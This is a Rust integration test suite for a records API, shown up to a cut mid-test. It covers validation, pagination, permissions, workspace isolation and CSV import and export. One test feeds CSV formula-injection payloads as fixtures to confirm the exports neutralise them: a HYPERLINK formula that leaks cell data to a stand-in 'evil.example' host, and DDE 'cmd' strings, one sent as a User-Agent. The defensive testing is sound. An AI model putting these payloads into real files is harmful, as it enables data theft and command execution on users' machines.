//! Collections and records through the real API: every field type valid and
//! invalid, exact money, idempotent creates, cursor pages, unique values,
//! per-collection role permissions, team-owned visibility, search isolation,
//! CSV round trip and all-or-nothing import (streamed, in bounded memory),
//! history and restore, and schema changes that keep records valid.

mod common;
#[path = "common/proc.rs"]
mod proc;

use common::{Env, PASSWORD, Server, client, login};
use serde_json::{Value, json};

struct World {
    env: Env,
    server: Server,
    ws: String,
    /// role → signed-in client
    clients: Vec<(&'static str, reqwest::Client)>,
    ids: Vec<(&'static str, String)>,
}

impl World {
    fn as_(&self, role: &str) -> &reqwest::Client {
        &self.clients.iter().find(|(r, _)| *r == role).unwrap().1
    }

    fn id(&self, role: &str) -> &str {
        &self.ids.iter().find(|(r, _)| *r == role).unwrap().1
    }

    fn url(&self, path: &str) -> String {
        self.server
            .url(&format!("/api/v1/workspaces/{}{path}", self.ws))
    }
}

const ROLES: [&str; 5] = ["owner", "admin", "manager", "member", "viewer"];

async fn world() -> World {
    let env = Env::new();
    let mut ids = Vec::new();
    for r in ROLES {
        ids.push((r, env.create_user(&format!("{r}@example.com"), r)));
    }
    let ws = env.create_workspace("Records Ltd", "owner@example.com");
    for r in &ROLES[1..] {
        env.add_member(&ws, &format!("{r}@example.com"), r);
    }
    let server = env.start();
    let mut clients = Vec::new();
    for r in ROLES {
        let c = client(&server);
        let resp = login(&c, &server, &format!("{r}@example.com"), PASSWORD).await;
        assert_eq!(resp.status(), 200);
        clients.push((r, c));
    }
    World {
        env,
        server,
        ws,
        clients,
        ids,
    }
}

async fn send(req: reqwest::RequestBuilder) -> (u16, Value) {
    let r = req.send().await.unwrap();
    let status = r.status().as_u16();
    let text = r.text().await.unwrap();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

async fn create_collection(w: &World, as_role: &str, body: Value) -> (u16, Value) {
    send(w.as_(as_role).post(w.url("/collections")).json(&body)).await
}

async fn create_record(w: &World, as_role: &str, coll: &str, values: Value) -> (u16, Value) {
    send(
        w.as_(as_role)
            .post(w.url(&format!("/collections/{coll}/records")))
            .json(&json!({ "values": values })),
    )
    .await
}

fn error_fields(body: &Value) -> Vec<String> {
    let mut v: Vec<String> = body["errors"]
        .as_array()
        .unwrap_or(&vec![])
        .iter()
        .map(|e| e["field"].as_str().unwrap_or_default().to_owned())
        .collect();
    v.sort();
    v
}

async fn count(w: &World, coll: &str) -> usize {
    let (s, page) = send(
        w.as_("owner")
            .get(w.url(&format!("/collections/{coll}/records?limit=200"))),
    )
    .await;
    assert_eq!(s, 200, "{page}");
    page["items"].as_array().unwrap().len()
}

/// A collection with one field of every type (the relation points at a
/// small "Companies" collection). Returns (collection id, company record id).
async fn every_type(w: &World) -> (String, String) {
    let (s, companies) = create_collection(
        w,
        "manager",
        json!({"name": "Companies", "fields": [{"name": "Name", "type": "text", "required": true}]}),
    )
    .await;
    assert_eq!(s, 201, "{companies}");
    let companies = companies["id"].as_str().unwrap().to_owned();
    let (s, acme) = create_record(w, "member", &companies, json!({"Name": "Acme"})).await;
    assert_eq!(s, 201, "{acme}");
    let acme = acme["id"].as_str().unwrap().to_owned();
    let (s, coll) = create_collection(
        w,
        "admin",
        json!({"name": "Ledger", "fields": [
            {"name": "Title", "type": "text", "required": true, "searchable": true},
            {"name": "Notes", "type": "long_text", "searchable": true},
            {"name": "Count", "type": "integer"},
            {"name": "Rate", "type": "decimal"},
            {"name": "Amount", "type": "money", "currency": "EUR"},
            {"name": "Paid", "type": "boolean"},
            {"name": "Due", "type": "date"},
            {"name": "At", "type": "datetime"},
            {"name": "Email", "type": "email", "unique": true, "pii": true, "searchable": true},
            {"name": "Phone", "type": "phone", "pii": true},
            {"name": "Site", "type": "url"},
            {"name": "Status", "type": "select", "options": ["Open", "Closed"]},
            {"name": "Tags", "type": "multi_select", "options": ["vip", "late", "new"]},
            {"name": "Company", "type": "relation", "collection": companies},
            {"name": "Owner", "type": "member"}
        ]}),
    )
    .await;
    assert_eq!(s, 201, "{coll}");
    let types: Vec<&str> = coll["fields"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["type"].as_str().unwrap())
        .collect();
    assert_eq!(types.len(), 15);
    (coll["id"].as_str().unwrap().to_owned(), acme)
}

#[tokio::test]
async fn every_field_type_valid_and_invalid() {
    let w = world().await;
    let (coll, acme) = every_type(&w).await;
    let owner_id = w.id("member").to_owned();
    let good = json!({
        "Title": "Invoice 7", "Notes": "two\nlines", "Count": 3, "Rate": "0012.50",
        "Amount": {"amount_minor": 9007199254740993i64, "currency": "EUR"},
        "Paid": true, "Due": "2026-02-28", "At": "2026-02-28T10:00:00+02:00",
        "Email": "Ada@Example.com", "Phone": "+44 (20) 7946-0958", "Site": "https://example.com/x",
        "Status": "open", "Tags": ["vip", "late", "vip"], "Company": acme, "Owner": owner_id
    });
    let (s, rec) = create_record(&w, "member", &coll, good).await;
    assert_eq!(s, 201, "{rec}");
    let v = &rec["values"];
    assert_eq!(
        v["Amount"]["amount_minor"],
        json!(9007199254740993i64),
        "money keeps exact minor units"
    );
    assert_eq!(v["Amount"]["currency"], "EUR");
    assert_eq!(v["Rate"], "12.50");
    assert_eq!(v["At"], "2026-02-28T08:00:00Z");
    assert_eq!(v["Phone"], "+442079460958");
    assert_eq!(v["Status"], "Open");
    assert_eq!(v["Tags"], json!(["vip", "late"]));
    assert!(rec["created_at"].is_string() && rec["updated_at"].is_string());
    // Read back exactly.
    let (s, back) = send(w.as_("viewer").get(w.url(&format!(
        "/collections/{coll}/records/{}",
        rec["id"].as_str().unwrap()
    ))))
    .await;
    assert_eq!(s, 200);
    assert_eq!(back["values"], rec["values"]);

    let bad = json!({
        "Title": 5, "Notes": ["x"], "Count": 1.5, "Rate": "1e3",
        "Amount": {"amount_minor": 1.5, "currency": "EUR"},
        "Paid": "yes", "Due": "2026-02-30", "At": "yesterday",
        "Email": "not-an-email", "Phone": "12", "Site": "ftp://x",
        "Status": "Pending", "Tags": ["vip", "nope"], "Company": "00000000-0000-0000-0000-000000000000",
        "Owner": "00000000-0000-0000-0000-000000000000", "Nope": 1
    });
    let before = count(&w, &coll).await;
    // "Writes nothing" as the promise says it: no row and no audit entry in
    // any store (every table of control.db and the workspace's data.db).
    let stored = common::stores_snapshot(&w.env);
    let wrote_nothing = |what: &str| {
        assert_eq!(
            common::stores_changed(&stored, &common::stores_snapshot(&w.env)),
            Vec::<String>::new(),
            "{what}: a refused record wrote something"
        );
    };
    let (s, body) = create_record(&w, "member", &coll, bad).await;
    assert_eq!(s, 422, "{body}");
    let fields = error_fields(&body);
    for f in [
        "Title", "Notes", "Count", "Rate", "Amount", "Paid", "Due", "At", "Email", "Phone", "Site",
        "Status", "Tags", "Company", "Owner", "Nope",
    ] {
        assert!(
            fields.contains(&format!("values.{f}")),
            "{f} not named in {fields:?}"
        );
    }
    assert_eq!(count(&w, &coll).await, before, "nothing written");
    wrote_nothing("every field bad");
    // Money: a float amount, a bad currency, and a fixed-currency mismatch.
    let (s, body) = create_record(
        &w,
        "member",
        &coll,
        json!({"Title": "x", "Amount": {"amount_minor": 100, "currency": "EURO"}}),
    )
    .await;
    assert_eq!(
        (s, error_fields(&body)),
        (422, vec!["values.Amount".to_owned()])
    );
    wrote_nothing("a bad currency");
    // Required.
    let (s, body) = create_record(&w, "member", &coll, json!({"Notes": "no title"})).await;
    assert_eq!(
        (s, error_fields(&body)),
        (422, vec!["values.Title".to_owned()])
    );
    wrote_nothing("a required field missing");
    // Unique through the blind index, case-insensitive for emails.
    let (s, body) = create_record(
        &w,
        "member",
        &coll,
        json!({"Title": "dup", "Email": "ada@example.COM"}),
    )
    .await;
    assert_eq!(
        (s, error_fields(&body)),
        (422, vec!["values.Email".to_owned()])
    );
    wrote_nothing("a duplicate unique value");
    // A body that is not an object of values.
    let (s, body) = send(
        w.as_("member")
            .post(w.url(&format!("/collections/{coll}/records")))
            .json(&json!({"values": [1]})),
    )
    .await;
    assert_eq!((s, error_fields(&body)), (422, vec!["values".to_owned()]));
    wrote_nothing("values not an object");
    // Bad collection definitions name the field too.
    let (s, body) = create_collection(&w, "admin", json!({"name": "X", "fields": [{"name": "A", "type": "colour"}, {"name": "M", "type": "money", "currency": "XYZ"}]})).await;
    assert_eq!(s, 422);
    assert_eq!(
        error_fields(&body),
        ["fields[0].type", "fields[1].currency"]
    );
}

#[tokio::test]
async fn idempotent_creates_pages_and_history() {
    let w = world().await;
    let (s, c) = create_collection(
        &w,
        "manager",
        json!({"name": "Tickets", "fields": [{"name": "Subject", "type": "text", "searchable": true}, {"name": "N", "type": "integer"}]}),
    )
    .await;
    assert_eq!(s, 201);
    let coll = c["id"].as_str().unwrap().to_owned();
    let url = w.url(&format!("/collections/{coll}/records"));
    let post = |key: &str, n: i64| {
        w.as_("member")
            .post(&url)
            .header("Idempotency-Key", key)
            .json(&json!({"values": {"Subject": "printer", "N": n}}))
    };
    let first = post("k-1", 1).send().await.unwrap();
    assert_eq!(first.status(), 201);
    assert!(first.headers().get("idempotent-replayed").is_none());
    let first: Value = first.json().await.unwrap();
    let again = post("k-1", 1).send().await.unwrap();
    assert_eq!(again.status(), 201);
    assert_eq!(again.headers()["idempotent-replayed"], "true");
    let again: Value = again.json().await.unwrap();
    assert_eq!(again["id"], first["id"]);
    let (s, body) = send(post("k-1", 2)).await;
    assert_eq!(
        (s, error_fields(&body)),
        (422, vec!["Idempotency-Key".to_owned()])
    );
    assert_eq!(count(&w, &coll).await, 1);

    for n in 2..=25 {
        let (s, _) = create_record(
            &w,
            "member",
            &coll,
            json!({"Subject": format!("ticket {n}"), "N": n}),
        )
        .await;
        assert_eq!(s, 201);
    }
    // Cursor pages cover every record once, in order, both ways.
    for (sort, expect_first) in [("-created_at", 25), ("created_at", 1)] {
        let mut seen = Vec::new();
        let mut cursor: Option<String> = None;
        loop {
            let mut u = format!("{url}?limit=10&sort={sort}");
            if let Some(c) = &cursor {
                u.push_str(&format!("&cursor={c}"));
            }
            let (s, page) = send(w.as_("viewer").get(&u)).await;
            assert_eq!(s, 200, "{page}");
            for it in page["items"].as_array().unwrap() {
                seen.push(it["values"]["N"].as_i64().unwrap());
            }
            match page["next_cursor"].as_str() {
                Some(c) => cursor = Some(c.to_owned()),
                None => break,
            }
        }
        assert_eq!(seen.len(), 25);
        assert_eq!(seen[0], expect_first);
        let mut sorted = seen.clone();
        sorted.sort();
        sorted.dedup();
        assert_eq!(sorted.len(), 25);
    }
    let (s, body) = send(w.as_("viewer").get(format!("{url}?cursor=garbage"))).await;
    assert_eq!((s, error_fields(&body)), (422, vec!["cursor".to_owned()]));
    let (s, body) = send(w.as_("viewer").get(format!("{url}?limit=0"))).await;
    assert_eq!((s, error_fields(&body)), (422, vec!["limit".to_owned()]));

    // Updating moves a record to the front of -updated_at.
    let id = first["id"].as_str().unwrap();
    let rec_url = format!("{url}/{id}");
    let (s, upd) = send(
        w.as_("member")
            .patch(&rec_url)
            .json(&json!({"values": {"Subject": "printer on fire"}})),
    )
    .await;
    assert_eq!(s, 200, "{upd}");
    assert_eq!(upd["version"], 2);
    assert_eq!(upd["values"]["N"], 1, "fields not named stay");
    let (_, page) = send(
        w.as_("viewer")
            .get(format!("{url}?limit=1&sort=-updated_at")),
    )
    .await;
    assert_eq!(page["items"][0]["id"], id);
    let (s, _) = send(
        w.as_("member")
            .patch(&rec_url)
            .json(&json!({"values": {"N": null}})),
    )
    .await;
    assert_eq!(s, 200);

    // History: three versions, newest first; restoring version 1.
    let (s, hist) = send(w.as_("viewer").get(format!("{rec_url}/history"))).await;
    assert_eq!(s, 200);
    let versions: Vec<i64> = hist["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["version"].as_i64().unwrap())
        .collect();
    assert_eq!(versions, [3, 2, 1]);
    assert_eq!(hist["items"][2]["values"]["Subject"], "printer");
    let (s, restored) = send(w.as_("member").post(format!("{rec_url}/history/1/restore"))).await;
    assert_eq!(s, 200, "{restored}");
    assert_eq!(restored["version"], 4);
    assert_eq!(restored["values"], json!({"Subject": "printer", "N": 1}));
    let (s, _) = send(w.as_("viewer").post(format!("{rec_url}/history/1/restore"))).await;
    assert_eq!(s, 403, "restoring is an update");

    // Search finds by the searchable field, and sees updates and deletes.
    let (s, page) = send(w.as_("viewer").get(format!("{url}?q=ticket"))).await;
    assert_eq!(s, 200);
    assert_eq!(page["items"].as_array().unwrap().len(), 24);
    let (s, page) = send(w.as_("viewer").get(format!("{url}?q=printer"))).await;
    assert_eq!(s, 200);
    assert_eq!(page["items"].as_array().unwrap().len(), 1);
    let (s, _) = send(w.as_("member").delete(&rec_url)).await;
    assert_eq!(s, 403, "members may not delete by default");
    let (s, _) = send(w.as_("manager").delete(&rec_url)).await;
    assert_eq!(s, 204);
    let (_, page) = send(w.as_("viewer").get(format!("{url}?q=printer"))).await;
    assert_eq!(page["items"].as_array().unwrap().len(), 0);
    let (s, _) = send(w.as_("viewer").get(&rec_url)).await;
    assert_eq!(s, 404);
}

#[tokio::test]
async fn permissions_teams_and_isolation() {
    let w = world().await;
    // Role permissions per collection.
    let (s, c) = create_collection(
        &w,
        "admin",
        json!({"name": "Payroll", "fields": [{"name": "Who", "type": "text", "searchable": true}],
               "permissions": {"read": ["owner", "admin"], "create": ["owner", "admin"], "update": ["owner"], "delete": ["owner"]}}),
    )
    .await;
    assert_eq!(s, 201, "{c}");
    let payroll = c["id"].as_str().unwrap().to_owned();
    let (s, _) = create_record(&w, "member", &payroll, json!({"Who": "x"})).await;
    assert_eq!(s, 403);
    let (s, r) = create_record(&w, "admin", &payroll, json!({"Who": "Grace"})).await;
    assert_eq!(s, 201);
    let rid = r["id"].as_str().unwrap().to_owned();
    let (s, _) = send(
        w.as_("viewer")
            .get(w.url(&format!("/collections/{payroll}/records"))),
    )
    .await;
    assert_eq!(s, 403);
    let (s, _) = send(
        w.as_("admin")
            .patch(w.url(&format!("/collections/{payroll}/records/{rid}")))
            .json(&json!({"values": {"Who": "G"}})),
    )
    .await;
    assert_eq!(s, 403);
    let (s, _) = send(
        w.as_("owner")
            .patch(w.url(&format!("/collections/{payroll}/records/{rid}")))
            .json(&json!({"values": {"Who": "G"}})),
    )
    .await;
    assert_eq!(s, 200);
    // Members cannot define or change collections; a role change applies at once.
    let (s, _) = create_collection(&w, "member", json!({"name": "Mine", "fields": []})).await;
    assert_eq!(s, 403);
    let (s, _) = send(
        w.as_("member")
            .patch(w.url(&format!("/collections/{payroll}")))
            .json(&json!({"name": "Renamed"})),
    )
    .await;
    assert_eq!(s, 403);
    // Refusals are audited.
    let (_, audit) = send(w.as_("owner").get(w.url("/audit?action=access.denied"))).await;
    // Five refusals above: the member's create, the viewer's list, the
    // admin's update, the member's collection create and rename.
    assert_eq!(audit["items"].as_array().unwrap().len(), 5, "{audit}");

    // Team-owned: only the team sees it, not even that it exists.
    let (s, team) = send(
        w.as_("admin")
            .post(w.url("/teams"))
            .json(&json!({"name": "Front desk"})),
    )
    .await;
    assert_eq!(s, 201);
    let team = team["id"].as_str().unwrap().to_owned();
    for (role, team_role) in [("member", "lead"), ("viewer", "member")] {
        let (s, _) = send(
            w.as_("admin")
                .put(w.url(&format!("/teams/{team}/members/{}", w.id(role))))
                .json(&json!({"role": team_role})),
        )
        .await;
        assert_eq!(s, 204);
    }
    let (s, c) = create_collection(
        &w,
        "manager",
        json!({"name": "Reservations", "team_id": team, "fields": [{"name": "Guest", "type": "text", "searchable": true}]}),
    )
    .await;
    assert_eq!(s, 201, "{c}");
    let resv = c["id"].as_str().unwrap().to_owned();
    // The lead (a workspace member) acts as the team's manager.
    let (s, r) = create_record(&w, "member", &resv, json!({"Guest": "Lovelace"})).await;
    assert_eq!(s, 201, "{r}");
    let rid = r["id"].as_str().unwrap().to_owned();
    let (s, _) = send(
        w.as_("member")
            .patch(w.url(&format!("/collections/{resv}")))
            .json(&json!({"fields": [{"name": "Nights", "type": "integer"}]})),
    )
    .await;
    assert_eq!(s, 200, "the lead manages the team's schema");
    let (s, _) = send(
        w.as_("viewer")
            .get(w.url(&format!("/collections/{resv}/records/{rid}"))),
    )
    .await;
    assert_eq!(s, 200, "team members read");
    for outsider in ["owner", "admin", "manager"] {
        let c = w.as_(outsider);
        let (s, list) = send(c.get(w.url("/collections"))).await;
        assert_eq!(s, 200);
        assert!(
            !list.to_string().contains(&resv),
            "{outsider} sees the team collection in the list"
        );
        let (s, _) = send(c.get(w.url(&format!("/collections/{resv}")))).await;
        assert_eq!(s, 404, "{outsider}");
        let (s, _) = send(c.get(w.url(&format!("/collections/{resv}/records/{rid}")))).await;
        assert_eq!(s, 404, "{outsider}");
        let (s, _) = create_record(&w, outsider, &resv, json!({"Guest": "x"})).await;
        assert_eq!(s, 404, "{outsider}");
    }
    // A team with collections cannot be deleted; removal from the team ends access.
    let (s, _) = send(w.as_("admin").delete(w.url(&format!("/teams/{team}")))).await;
    assert_eq!(s, 409);
    let (s, _) = send(
        w.as_("member")
            .delete(w.url(&format!("/teams/{team}/members/{}", w.id("viewer")))),
    )
    .await;
    assert_eq!(s, 204, "the lead manages the team's members");
    let (s, _) = send(
        w.as_("viewer")
            .get(w.url(&format!("/collections/{resv}/records/{rid}"))),
    )
    .await;
    assert_eq!(s, 404);

    // Another workspace: its admin gets 404 for this workspace's objects,
    // even under their own workspace id, and search never crosses over.
    w.env.create_user("other@example.com", "Other");
    let other_ws = w.env.create_workspace("Other Ltd", "other@example.com");
    let oc = client(&w.server);
    assert_eq!(
        login(&oc, &w.server, "other@example.com", PASSWORD)
            .await
            .status(),
        200
    );
    let ourl = |p: &str| w.server.url(&format!("/api/v1/workspaces/{other_ws}{p}"));
    let (s, mine) = send(oc.post(ourl("/collections")).json(
        &json!({"name": "Guests", "fields": [{"name": "Who", "type": "text", "searchable": true}]}),
    ))
    .await;
    assert_eq!(s, 201);
    let mine = mine["id"].as_str().unwrap().to_owned();
    let (s, _) = send(
        oc.post(ourl(&format!("/collections/{mine}/records")))
            .json(&json!({"values": {"Who": "Lovelace"}})),
    )
    .await;
    assert_eq!(s, 201);
    let (s, _) = send(oc.get(w.url(&format!("/collections/{payroll}")))).await;
    assert_eq!(s, 404);
    let (s, _) = send(oc.get(ourl(&format!("/collections/{payroll}/records")))).await;
    assert_eq!(
        s, 404,
        "another workspace's collection under my workspace id"
    );
    let (s, _) = send(oc.get(ourl(&format!("/collections/{mine}/records/{rid}")))).await;
    assert_eq!(s, 404, "another workspace's record under my collection");
    let (s, page) = send(oc.get(ourl(&format!("/collections/{mine}/records?q=Lovelace")))).await;
    assert_eq!(s, 200);
    let items = page["items"].as_array().unwrap();
    assert_eq!(items.len(), 1);
    assert!(!page.to_string().contains(&rid));
}

async fn all_values(w: &World, c: &str) -> Vec<Value> {
    let (_, p) = send(w.as_("owner").get(w.url(&format!(
        "/collections/{c}/records?limit=200&sort=created_at"
    ))))
    .await;
    p["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["values"].clone())
        .collect()
}

#[tokio::test]
async fn csv_round_trip_and_all_or_nothing_import() {
    let w = world().await;
    let (coll, acme) = every_type(&w).await;
    let owner_id = w.id("member").to_owned();
    for i in 0..30 {
        let (s, r) = create_record(&w, "member", &coll, json!({
            "Title": format!("Row, \"quoted\" {i}"), "Notes": "line one\nline two", "Count": i,
            "Rate": "-0.125", "Amount": {"amount_minor": 100 * i + 5, "currency": "EUR"}, "Paid": i % 2 == 0,
            "Due": "2026-03-01", "At": "2026-03-01T00:00:00Z", "Email": format!("p{i}@example.com"),
            "Phone": "+1 555 0100", "Site": "https://example.com", "Status": "Closed", "Tags": ["vip", "new"],
            "Company": acme, "Owner": owner_id
        })).await;
        assert_eq!(s, 201, "{r}");
    }
    let resp = w
        .as_("viewer")
        .get(w.url(&format!("/collections/{coll}/export")))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert!(
        resp.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let csv = resp.text().await.unwrap();
    assert_eq!(
        csv.lines().next().unwrap(),
        "id,created_at,updated_at,Title,Notes,Count,Rate,Amount,Paid,Due,At,Email,Phone,Site,Status,Tags,Company,Owner"
    );

    // A copy of the schema (without unique) takes the export back in.
    let (_, schema) = send(w.as_("owner").get(w.url(&format!("/collections/{coll}")))).await;
    let fields: Vec<Value> = schema["fields"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let mut f = f.clone();
            let o = f.as_object_mut().unwrap();
            o.remove("id");
            o.insert("unique".into(), json!(false));
            f
        })
        .collect();
    let (s, copy) = create_collection(
        &w,
        "admin",
        json!({"name": "Ledger copy", "fields": fields}),
    )
    .await;
    assert_eq!(s, 201, "{copy}");
    let copy = copy["id"].as_str().unwrap().to_owned();
    let import = |body: String| {
        w.as_("member")
            .post(w.url(&format!("/collections/{copy}/import")))
            .header("content-type", "text/csv")
            .body(body)
    };
    let (s, res) = send(import(csv.clone())).await;
    assert_eq!(s, 200, "{res}");
    assert_eq!(res["imported"], 30);
    assert_eq!(
        all_values(&w, &coll).await,
        all_values(&w, &copy).await,
        "values survive the round trip exactly"
    );

    // One bad cell and one unknown column: nothing is written, and each
    // error names its line and column.
    let mut lines: Vec<String> = csv.lines().map(str::to_owned).collect();
    let i = (3..lines.len())
        .find(|&i| lines[i].contains(",https://example.com,"))
        .unwrap();
    lines[i] = lines[i].replacen(",https://example.com,", ",not a url,", 1);
    let (s, res) = send(import(lines.join("\n"))).await;
    assert_eq!(s, 422, "{res}");
    // Line numbers count the physical lines (the quoted notes span two).
    let f = error_fields(&res);
    assert_eq!(f.len(), 1, "{res}");
    assert!(
        f[0].starts_with("line ") && f[0].ends_with(", column Site"),
        "{f:?}"
    );
    let (s, res) = send(import("Title,Colour\nA,red\n".into())).await;
    assert_eq!(
        (s, error_fields(&res)),
        (422, vec!["line 1, column Colour".to_owned()])
    );
    let (s, res) = send(import("Title,Count\nA,1\nB,two\nC,3\n".into())).await;
    assert_eq!(
        (s, error_fields(&res)),
        (422, vec!["line 3, column Count".to_owned()])
    );
    let (s, _) = send(import("Title,Count\nA,1\nB\n".into())).await;
    assert_eq!(s, 422, "ragged rows are refused");
    assert_eq!(count(&w, &copy).await, 30, "failed imports wrote nothing");
    let (s, _) = send(
        w.as_("viewer")
            .post(w.url(&format!("/collections/{copy}/import")))
            .header("content-type", "text/csv")
            .body("Title\nx\n"),
    )
    .await;
    assert_eq!(s, 403, "import needs create permission");
}

/// Whether a CSV cell would start a formula in a spreadsheet.
fn live_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Every cell of a CSV text, header included.
fn csv_cells(text: &str) -> Vec<String> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    r.records()
        .flat_map(|rec| rec.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

/// Finding 18 of issue 18: a value like `=HYPERLINK(...)` came out of the
/// CSV exports as a live formula. Every cell that would start one (`=`, `+`,
/// `-`, `@`, tab, CR) is written with a leading `'`, in the records export
/// (field names too) and the audit export (user agents, details); the
/// import strips exactly that quote, so values, including ones that really
/// begin with a quote, come back unchanged.
#[tokio::test]
async fn csv_exports_neutralise_formulas_and_the_import_takes_them_back() {
    let w = world().await;
    let fields = json!([
        {"name": "Title", "type": "text"},
        {"name": "Notes", "type": "long_text"},
        {"name": "Count", "type": "integer"},
        {"name": "=Total", "type": "text"}
    ]);
    let (s, coll) =
        create_collection(&w, "admin", json!({"name": "Sheet", "fields": fields})).await;
    assert_eq!(s, 201, "{coll}");
    let coll = coll["id"].as_str().unwrap().to_owned();
    let titles = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+1+2",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "'already quoted",
        "''two quotes",
        "'=a quote, then a formula",
        "'",
        "plain",
        "a=b",
    ];
    let notes = ["\tTabbed", "\rCarriage", "=1\n=2", "ok\n=not first"];
    for (i, t) in titles.iter().enumerate() {
        let (s, r) = create_record(
            &w,
            "member",
            &coll,
            json!({"Title": t, "Notes": notes[i % notes.len()], "Count": 5 - i as i64, "=Total": "-3"}),
        )
        .await;
        assert_eq!(s, 201, "{r}");
    }
    let ua = "=cmd|' /C calc'!A0";
    let (s, r) = send(
        w.as_("owner")
            .post(w.url(&format!("/collections/{coll}/records")))
            .header("user-agent", ua)
            .json(&json!({"values": {"Title": "from a hostile agent"}})),
    )
    .await;
    assert_eq!(s, 201, "{r}");

    let export = w
        .as_("viewer")
        .get(w.url(&format!("/collections/{coll}/export")))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let cells = csv_cells(&export);
    let live: Vec<&String> = cells.iter().filter(|c| live_formula(c)).collect();
    assert!(
        live.is_empty(),
        "live formulas in the records export: {live:?}"
    );
    assert!(cells.contains(&"'=Total".to_owned()), "{cells:?}");
    assert!(cells.contains(&"'-3".to_owned()), "{cells:?}");
    assert!(cells.contains(&"'''two quotes".to_owned()), "{cells:?}");

    let audit = w
        .as_("owner")
        .get(w.url("/audit/export?format=csv"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let cells = csv_cells(&audit);
    assert!(cells.contains(&format!("'{ua}")), "the agent, neutralised");
    let live: Vec<&String> = cells.iter().filter(|c| live_formula(c)).collect();
    assert!(
        live.is_empty(),
        "live formulas in the audit export: {live:?}"
    );

    // The import takes the export back exactly.
    let (s, copy) =
        create_collection(&w, "admin", json!({"name": "Sheet copy", "fields": fields})).await;
    assert_eq!(s, 201, "{copy}");
    let copy = copy["id"].as_str().unwrap().to_owned();
    let (s, res) = send(
        w.as_("member")
            .post(w.url(&format!("/collections/{copy}/import")))
            .header("content-type", "text/csv")
            .body(export),
    )
    .await;
    assert_eq!(s, 200, "{res}");
    assert_eq!(res["imported"], titles.len() + 1);
    assert_eq!(
        all_values(&w, &coll).await,
        all_values(&w, &copy).await,
        "values survive the round trip exactly"
    );
}

#[tokio::test]
async fn schema_changes_keep_records_valid() {
    let w = world().await;
    let (s, c) = create_collection(
        &w,
        "manager",
        json!({"name": "Leads", "fields": [
            {"name": "Name", "type": "text", "required": true},
            {"name": "Stage", "type": "select", "options": ["New", "Won"]},
            {"name": "Score", "type": "integer"}
        ]}),
    )
    .await;
    assert_eq!(s, 201);
    let coll = c["id"].as_str().unwrap().to_owned();
    let ids: Vec<String> = c["fields"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["id"].as_str().unwrap().to_owned())
        .collect();
    let (_, r) = create_record(
        &w,
        "member",
        &coll,
        json!({"Name": "Ada", "Stage": "Won", "Score": 7}),
    )
    .await;
    let rid = r["id"].as_str().unwrap().to_owned();
    // Rename Name, drop the "Won" option (kept for existing values), retire Score, add a required field.
    let (s, c2) = send(
        w.as_("manager")
            .patch(w.url(&format!("/collections/{coll}")))
            .json(&json!({
                "name": "Prospects",
                "fields": [
                    {"id": ids[0], "name": "Full name", "type": "text", "required": true},
                    {"id": ids[1], "name": "Stage", "type": "select", "options": ["New", "Lost"]},
                    {"id": ids[2], "name": "Score", "type": "integer", "retired": true},
                    {"name": "Source", "type": "text", "required": true}
                ]
            })),
    )
    .await;
    assert_eq!(s, 200, "{c2}");
    assert_eq!(c2["name"], "Prospects");
    let (s, back) = send(
        w.as_("viewer")
            .get(w.url(&format!("/collections/{coll}/records/{rid}"))),
    )
    .await;
    assert_eq!(s, 200);
    assert_eq!(back["values"], json!({"Full name": "Ada", "Stage": "Won"}));
    // A type change is refused and names the field.
    let (s, body) = send(
        w.as_("manager")
            .patch(w.url(&format!("/collections/{coll}")))
            .json(&json!({
                "fields": [{"id": ids[0], "name": "Full name", "type": "integer"}]
            })),
    )
    .await;
    assert_eq!(
        (s, error_fields(&body)),
        (422, vec!["fields[0].type".to_owned()])
    );
    // Turning on unique with duplicates present is refused.
    create_record(
        &w,
        "member",
        &coll,
        json!({"Full name": "Ada", "Source": "web"}),
    )
    .await;
    let (s, body) = send(w.as_("manager").patch(w.url(&format!("/collections/{coll}"))).json(&json!({
        "fields": [{"id": ids[0], "name": "Full name", "type": "text", "required": true, "unique": true}]
    }))).await;
    assert_eq!(s, 422, "{body}");
    // Unknown JSON keys are named.
    let (s, body) = send(
        w.as_("manager")
            .patch(w.url(&format!("/collections/{coll}")))
            .json(&json!({"colour": 1})),
    )
    .await;
    assert_eq!((s, error_fields(&body)), (422, vec!["colour".to_owned()]));
}

/// Issue 27, finding 2: a CSV import near its 16 MiB limit is parsed as it
/// arrives, so the server's resident memory grows by well under twice the
/// body (the body is never held whole, let alone twice, beside its rows),
/// and all of it still goes in, in one transaction with its audit entry.
/// One byte past the limit (sent without a declared length) is still 413.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn finding_2_large_csv_import_is_streamed_not_buffered() {
    let w = world().await;
    let (s, coll) = create_collection(
        &w,
        "admin",
        json!({"name": "Bulk", "fields": [
            {"name": "Title", "type": "text", "required": true, "searchable": true},
            {"name": "Notes", "type": "long_text"}
        ]}),
    )
    .await;
    assert_eq!(s, 201, "{coll}");
    let coll = coll["id"].as_str().unwrap().to_owned();
    const LIMIT: usize = 16 * 1024 * 1024;
    const ROWS: usize = 50_000;
    let mut csv = String::from("Title,Notes\n");
    let pad = LIMIT / ROWS - 40;
    for i in 0..ROWS {
        let note: String = (0..pad)
            .map(|j| char::from(b'a' + ((i * 7 + j * 13) % 26) as u8))
            .collect();
        csv.push_str(&format!("Row {i},\"{note}\"\n"));
    }
    let size = csv.len();
    assert!(size > LIMIT * 9 / 10 && size <= LIMIT, "{size}");

    let pid = w.server.pid();
    let before = proc::rss_mib(pid);
